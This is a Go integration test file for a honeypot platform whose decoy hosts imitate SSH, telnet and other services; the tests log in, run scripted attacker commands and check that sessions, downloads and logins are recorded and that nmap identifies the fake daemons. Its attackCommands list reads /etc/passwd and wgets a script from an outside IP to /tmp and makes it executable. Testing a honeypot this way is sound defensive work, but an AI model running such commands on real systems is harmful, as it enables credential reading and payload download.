package app

import (
	"bytes"
	"context"
	"encoding/json"
	"encoding/xml"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	gossh "golang.org/x/crypto/ssh"

	"github.com/decnet/decnet/internal/bus"
	"github.com/decnet/decnet/internal/fleet"
	"github.com/decnet/decnet/internal/model"
	"github.com/decnet/decnet/internal/services"
	"github.com/decnet/decnet/internal/services/loginshell"
	"github.com/decnet/decnet/internal/store"
	"github.com/decnet/decnet/internal/syslog"
	"github.com/decnet/decnet/internal/testenv"
)

// startDemo runs an App with the demo fleet on subnet and returns it with
// the addresses of its deckies by name.
func startDemo(t *testing.T, subnet string) (*App, map[string]fleet.Status) {
	t.Helper()
	return startDemoWith(t, subnet, nil)
}

func startDemoWith(t *testing.T, subnet string, extra map[string]string) (*App, map[string]fleet.Status) {
	t.Helper()
	out := &syncBuffer{}
	a := startAppWith(t, testConfig(t, extra), Options{Out: out, DemoSubnet: subnet})
	sts, err := a.fleet.Status(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	byName := map[string]fleet.Status{}
	for _, st := range sts {
		if !st.Serving {
			t.Fatalf("demo decky %s is not serving: %s %s", st.Name, st.State, st.LastError)
		}
		byName[st.Name] = st
	}
	if !strings.Contains(out.String(), "linux-server-01") {
		t.Errorf("startup output does not list the demo fleet:\n%s", out.String())
	}
	return a, byName
}

// sessions collects attacker.session.ended payloads.
type sessions struct {
	mu  sync.Mutex
	got []loginshell.Ended
}

func subscribeSessions(t *testing.T, b *bus.Bus) *sessions {
	t.Helper()
	s := &sessions{}
	_, err := b.Subscribe(bus.AttackerSessionEnded, "", func(e bus.Envelope) {
		var p loginshell.Ended
		if err := json.Unmarshal(e.Payload, &p); err != nil {
			t.Errorf("session.ended payload: %v", err)
			return
		}
		s.mu.Lock()
		s.got = append(s.got, p)
		s.mu.Unlock()
	})
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func (s *sessions) wait(t *testing.T, n int) []loginshell.Ended {
	t.Helper()
	var out []loginshell.Ended
	checkFor(t, 10*time.Second, func() error {
		s.mu.Lock()
		defer s.mu.Unlock()
		if len(s.got) < n {
			return fmt.Errorf("%d session.ended notifications, want %d", len(s.got), n)
		}
		out = slices.Clone(s.got)
		return nil
	})
	return out
}

// logsOf returns the decky's logs rows, oldest first, once want rows of
// eventType exist.
func logsOf(t *testing.T, s store.LogRepository, decky, eventType string, want int) []model.LogEntry {
	t.Helper()
	var rows []model.LogEntry
	checkFor(t, 10*time.Second, func() error {
		all, err := s.ListLogs(context.Background(), store.LogQuery{Decky: decky, Limit: 500})
		if err != nil {
			return err
		}
		rows = nil
		n := 0
		for i := len(all) - 1; i >= 0; i-- {
			rows = append(rows, all[i])
			if all[i].EventType == eventType {
				n++
			}
		}
		if n < want {
			return fmt.Errorf("%d %s rows for %s, want %d", n, eventType, decky, want)
		}
		return nil
	})
	return rows
}

func ofType(rows []model.LogEntry, typ string) []model.LogEntry {
	var out []model.LogEntry
	for _, r := range rows {
		if r.EventType == typ {
			out = append(out, r)
		}
	}
	return out
}

var attackCommands = []string{"uname -a", "cat /etc/passwd", "wget http://203.0.113.5/x.sh -O /tmp/x.sh", "chmod +x /tmp/x.sh", "ls -la /tmp"}

// checkAttackSession verifies what one session running the commands want
// left in the database and on the bus.
func checkAttackSession(t *testing.T, a *App, decky, service string, ended loginshell.Ended, want []string) {
	t.Helper()
	var texts []string
	for _, c := range ended.Commands {
		texts = append(texts, c.CommandText)
	}
	if !slices.Equal(texts, want) || ended.Service != service || ended.Decky != decky || ended.User != "root" {
		t.Errorf("session.ended %+v, commands %q", ended, texts)
	}
	rows := logsOf(t, a.Store(), decky, "session_recorded", 1)
	var cmds []string
	for _, r := range ofType(rows, "command") {
		cmds = append(cmds, r.Fields["command"])
		if r.Fields["user"] != "root" || r.Fields["cwd"] == "" || r.SessionID != ended.SessionID {
			t.Errorf("command row %+v", r)
		}
	}
	if !slices.Equal(cmds, want) {
		t.Errorf("command rows %q, want %q", cmds, want)
	}
	dl := ofType(rows, "download_attempt")
	if len(dl) != 1 || dl[0].Fields["url"] != "http://203.0.113.5/x.sh" || dl[0].Fields["host"] != "203.0.113.5" || dl[0].Fields["path"] != "/tmp/x.sh" {
		t.Errorf("download rows %+v", dl)
	}
	var outcomes []string
	for _, r := range ofType(rows, "auth_attempt") {
		outcomes = append(outcomes, r.Fields["outcome"])
		if r.Fields["secret_b64"] == "" || r.Fields["principal"] != "root" {
			t.Errorf("auth row %+v", r)
		}
	}
	if !slices.Contains(outcomes, "failure") || !slices.Contains(outcomes, "success") {
		t.Errorf("auth outcomes %q, want a failure and a success", outcomes)
	}
}

// checkTranscript parses an asciicast v2 file and looks for want in its
// output.
func checkTranscript(t *testing.T, path string, want ...string) {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("transcript: %v", err)
	}
	lines := strings.Split(strings.TrimSpace(string(data)), "\n")
	var hdr struct {
		Version int `json:"version"`
		Width   int `json:"width"`
	}
	if err := json.Unmarshal([]byte(lines[0]), &hdr); err != nil || hdr.Version != 2 || hdr.Width == 0 {
		t.Fatalf("transcript header %q: %v", lines[0], err)
	}
	var output strings.Builder
	last := 0.0
	for _, l := range lines[1:] {
		var ev [3]any
		if err := json.Unmarshal([]byte(l), &ev); err != nil {
			t.Fatalf("transcript line %q: %v", l, err)
		}
		ts, _ := ev[0].(float64)
		if ts < last {
			t.Fatalf("transcript goes back in time at %q", l)
		}
		last = ts
		if ev[1] == "o" {
			output.WriteString(ev[2].(string))
		}
	}
	for _, w := range want {
		if !strings.Contains(output.String(), w) {
			t.Errorf("transcript output lacks %q", w)
		}
	}
}

func sshArgs(ip string) []string {
	return []string{"-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR",
		"-o", "PreferredAuthentications=password", "-o", "NumberOfPasswordPrompts=1", "-o", "ConnectTimeout=10", "root@" + ip}
}

func TestOpenSSHClientLoginCommandsAndSessionEnded(t *testing.T) {
	sshpass := testenv.Binary(t, "sshpass")
	testenv.Binary(t, "ssh")
	a, deckies := startDemo(t, "127.79.1.0/24")
	sess := subscribeSessions(t, a.Bus())
	d := deckies["linux-server-01"]

	// A failed login, then the attack through a successful one.
	fail := exec.Command(sshpass, append([]string{"-p", "wrong-password", "ssh"}, append(sshArgs(d.IP), "id")...)...)
	if out, err := fail.CombinedOutput(); err == nil || !strings.Contains(string(out), "Permission denied") {
		t.Fatalf("wrong password: %v\n%s", err, out)
	}
	cmd := exec.Command(sshpass, append([]string{"-p", "admin", "ssh"}, append(sshArgs(d.IP), strings.Join(attackCommands, "; "))...)...)
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("ssh: %v\n%s", err, out)
	}
	for _, want := range []string{"Linux " + d.Hostname, "root:x:0:0:root:/root:/bin/bash", "x.sh"} {
		if !bytes.Contains(out, []byte(want)) {
			t.Errorf("ssh output lacks %q:\n%s", want, out)
		}
	}
	ended := sess.wait(t, 1)
	checkAttackSession(t, a, d.Name, "ssh", ended[0], attackCommands)
	// A session without a pty is recorded too.
	checkTranscript(t, ended[0].Transcript, "root:x:0:0:root")

	// An interactive login with a pty is recorded as a transcript.
	shell := exec.Command(sshpass, append([]string{"-p", "admin", "ssh", "-tt"}, sshArgs(d.IP)...)...)
	stdin, _ := shell.StdinPipe()
	var tty bytes.Buffer
	shell.Stdout, shell.Stderr = &tty, &tty
	if err := shell.Start(); err != nil {
		t.Fatal(err)
	}
	go func() {
		for _, line := range []string{"hostname", "cat /etc/os-release", "exit"} {
			time.Sleep(700 * time.Millisecond)
			io.WriteString(stdin, line+"\r")
		}
	}()
	if err := shell.Wait(); err != nil {
		t.Fatalf("interactive ssh: %v\n%s", err, tty.String())
	}
	ended = sess.wait(t, 2)
	if ended[1].Transcript == "" {
		t.Fatalf("interactive session has no transcript: %+v", ended[1])
	}
	checkTranscript(t, ended[1].Transcript, "root@"+d.Hostname, d.Hostname+"\r\n", "PRETTY_NAME=")
	if !strings.HasPrefix(ended[1].Transcript, filepath.Join(a.cfg.DataDir, "artifacts", d.Name, "ssh")) {
		t.Errorf("transcript %s is outside the decky's artifacts", ended[1].Transcript)
	}
}

func TestTelnetClientLoginCommandsAndSessionEnded(t *testing.T) {
	telnet := testenv.Binary(t, "telnet")
	a, deckies := startDemo(t, "127.79.2.0/24")
	sess := subscribeSessions(t, a.Bus())
	d := deckies["iot-device-01"]

	cmd := exec.Command(telnet, d.IP, "23")
	stdin, _ := cmd.StdinPipe()
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	// The telnet client in character mode turns "\n" into the CR LF a
	// terminal's Enter sends. Failed logins cost login(1)'s delay.
	script := []struct {
		wait time.Duration
		line string
	}{
		{time.Second, "root"}, {500 * time.Millisecond, "wrong"}, {3 * time.Second, "root"}, {500 * time.Millisecond, "admin"},
		{time.Second, strings.Join(attackCommands, "; ")}, {3 * time.Second, "exit"},
	}
	go func() {
		for _, s := range script {
			time.Sleep(s.wait)
			io.WriteString(stdin, s.line+"\n")
		}
		time.Sleep(2 * time.Second)
		stdin.Close()
	}()
	done := make(chan error, 1)
	go func() { done <- cmd.Wait() }()
	select {
	case <-done:
	case <-time.After(30 * time.Second):
		cmd.Process.Kill()
		t.Fatalf("telnet session did not end:\n%s", out.String())
	}
	for _, want := range []string{d.Hostname + " login: ", "Login incorrect", "BusyBox", "Linux " + d.Hostname, "x.sh"} {
		if !strings.Contains(out.String(), want) {
			t.Errorf("telnet output lacks %q:\n%s", want, out.String())
		}
	}
	ended := sess.wait(t, 1)
	// The interactive session ends with the exit the client typed.
	checkAttackSession(t, a, d.Name, "telnet", ended[0], append(slices.Clone(attackCommands), "exit"))
	checkTranscript(t, ended[0].Transcript, d.Hostname, "root:x:0:0:root")
}

// nmapRun is the part of nmap's XML output the sweep reads.
type nmapRun struct {
	Hosts []struct {
		Address struct {
			Addr string `xml:"addr,attr"`
		} `xml:"address"`
		Ports []struct {
			Port  int `xml:"portid,attr"`
			State struct {
				State string `xml:"state,attr"`
			} `xml:"state"`
			Service struct {
				Name    string `xml:"name,attr"`
				Product string `xml:"product,attr"`
				Tunnel  string `xml:"tunnel,attr"`
			} `xml:"service"`
		} `xml:"ports>port"`
	} `xml:"host"`
}

// nmapSays is what nmap -sV must report for each service: the service
// name and product of the daemon its persona imitates.
var nmapSays = map[string]*regexp.Regexp{
	"ssh":        regexp.MustCompile(`^ssh OpenSSH`),
	"telnet":     regexp.MustCompile(`^telnet BusyBox telnetd`),
	"http":       regexp.MustCompile(`^http (nginx|Apache httpd|Microsoft IIS httpd)`),
	"https":      regexp.MustCompile(`^(ssl/)?https? (nginx|Apache httpd|Microsoft IIS httpd)`),
	"ftp":        regexp.MustCompile(`^ftp (vsftpd|ProFTPD|Pure-FTPd)`),
	"smtp":       regexp.MustCompile(`^smtp (Postfix smtpd|Exim smtpd|Sendmail)`),
	"smtp_relay": regexp.MustCompile(`^smtp (Postfix smtpd|Exim smtpd|Sendmail)`),
	"mysql":      regexp.MustCompile(`^mysql MySQL`),
	"postgres":   regexp.MustCompile(`^postgresql PostgreSQL DB`),
	"redis":      regexp.MustCompile(`^redis Redis key-value store`),
}

// TestNmapIdentifiesEveryDemoService sweeps the whole demo fleet with
// nmap -sV and checks every service port is identified as the daemon its
// persona claims (issue 9's acceptance), FTP's passive ports aside.
func TestNmapIdentifiesEveryDemoService(t *testing.T) {
	nmap := testenv.Binary(t, "nmap")
	_, deckies := startDemo(t, "127.79.3.0/24")
	want := map[string]string{} // "ip:port" → service
	var ips []string
	ports := map[int]bool{}
	for _, d := range deckies {
		ips = append(ips, d.IP)
		for _, svc := range d.Services {
			if nmapSays[svc.Name] == nil {
				t.Fatalf("decky %s runs %s, which this test has no nmap expectation for", d.Name, svc.Name)
			}
			for i, p := range svc.Ports {
				if svc.Name == "ftp" && i > 0 {
					break // the passive data ports answer no banner
				}
				want[net.JoinHostPort(d.IP, strconv.Itoa(p.Port))] = svc.Name
				ports[p.Port] = true
			}
		}
	}
	var plist []string
	for p := range ports {
		plist = append(plist, strconv.Itoa(p))
	}
	args := append([]string{"-sV", "-Pn", "-n", "-oX", "-", "-p", strings.Join(plist, ",")}, ips...)
	out, err := exec.Command(nmap, args...).Output()
	if err != nil {
		t.Fatalf("nmap: %v\n%s", err, out)
	}
	var run nmapRun
	if err := xml.Unmarshal(out, &run); err != nil {
		t.Fatalf("nmap XML: %v\n%s", err, out)
	}
	seen := map[string]bool{}
	for _, h := range run.Hosts {
		for _, p := range h.Ports {
			key := net.JoinHostPort(h.Address.Addr, strconv.Itoa(p.Port))
			svc, ok := want[key]
			if !ok {
				continue
			}
			seen[key] = true
			got := p.Service.Name + " " + p.Service.Product
			if p.Service.Tunnel != "" {
				got = p.Service.Tunnel + "/" + got
			}
			if p.State.State != "open" || !nmapSays[svc].MatchString(got) {
				t.Errorf("%s (%s): nmap says %s %q, want %s", key, svc, p.State.State, got, nmapSays[svc])
			}
		}
	}
	for key, svc := range want {
		if !seen[key] {
			t.Errorf("%s (%s) is missing from nmap's report", key, svc)
		}
	}
	t.Logf("nmap identified %d service ports on %d deckies", len(seen), len(deckies))
}

func TestEventLogFileGetsEveryEventAsRFC5424(t *testing.T) {
	path := filepath.Join(t.TempDir(), "events.log")
	_, deckies := startDemoWith(t, "127.79.4.0/24", map[string]string{"DECNET_EVENT_LOG_FILE": path})
	d := deckies["linux-server-01"]
	_, err := gossh.Dial("tcp", net.JoinHostPort(d.IP, strconv.Itoa(d.Services[0].Ports[0].Port)), &gossh.ClientConfig{
		User: "root", Auth: []gossh.AuthMethod{gossh.Password("not-it")}, HostKeyCallback: gossh.InsecureIgnoreHostKey(),
	})
	if err == nil {
		t.Fatal("a wrong password logged in")
	}
	checkFor(t, 10*time.Second, func() error {
		data, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		for line := range strings.SplitSeq(strings.TrimSpace(string(data)), "\n") {
			ev, err := syslog.Parse(line)
			if err != nil {
				return fmt.Errorf("line %q: %v", line, err)
			}
			if ev.EventType == "auth_attempt" && ev.Decky == d.Name && ev.Fields["secret_printable"] == "not-it" {
				return nil
			}
		}
		return fmt.Errorf("no auth_attempt line yet in:\n%s", data)
	})
}

func TestDemoFleetRunsEveryBuiltInService(t *testing.T) {
	ds, err := planDemo("127.77.0.0/24")
	if err != nil {
		t.Fatal(err)
	}
	on := map[string]bool{}
	for _, d := range ds {
		for _, s := range d.Services {
			on[s] = true
		}
	}
	cat := services.Catalog{}
	for _, s := range cat.Names() {
		if !cat.Singleton(s) && !on[s] {
			t.Errorf("service %s runs on no demo decky", s)
		}
	}
}

func TestPortListShowsOffsetsAndFoldsConsecutiveRuns(t *testing.T) {
	bp := func(port, declared int) fleet.BoundPort {
		return fleet.BoundPort{Port: port, Declared: declared, Proto: "tcp"}
	}
	tests := []struct {
		ports   []fleet.BoundPort
		want    string
		shifted bool
	}{
		{[]fleet.BoundPort{bp(22, 22)}, "22", false},
		{[]fleet.BoundPort{bp(25, 25), bp(587, 587)}, "25,587", false},
		{[]fleet.BoundPort{bp(21, 21), bp(30000, 30000), bp(30001, 30001), bp(30002, 30002)}, "21,30000-30002", false},
		{[]fleet.BoundPort{bp(30000, 30000), bp(30001, 30001)}, "30000,30001", false},
		{[]fleet.BoundPort{bp(10021, 21), bp(30000, 30000), bp(30001, 30001), bp(30002, 30002)}, "10021←21,30000-30002", true},
	}
	for _, tt := range tests {
		got, shifted := portList(tt.ports)
		if got != tt.want || shifted != tt.shifted {
			t.Errorf("portList(%v) = %q, %v; want %q, %v", tt.ports, got, shifted, tt.want, tt.shifted)
		}
	}
}
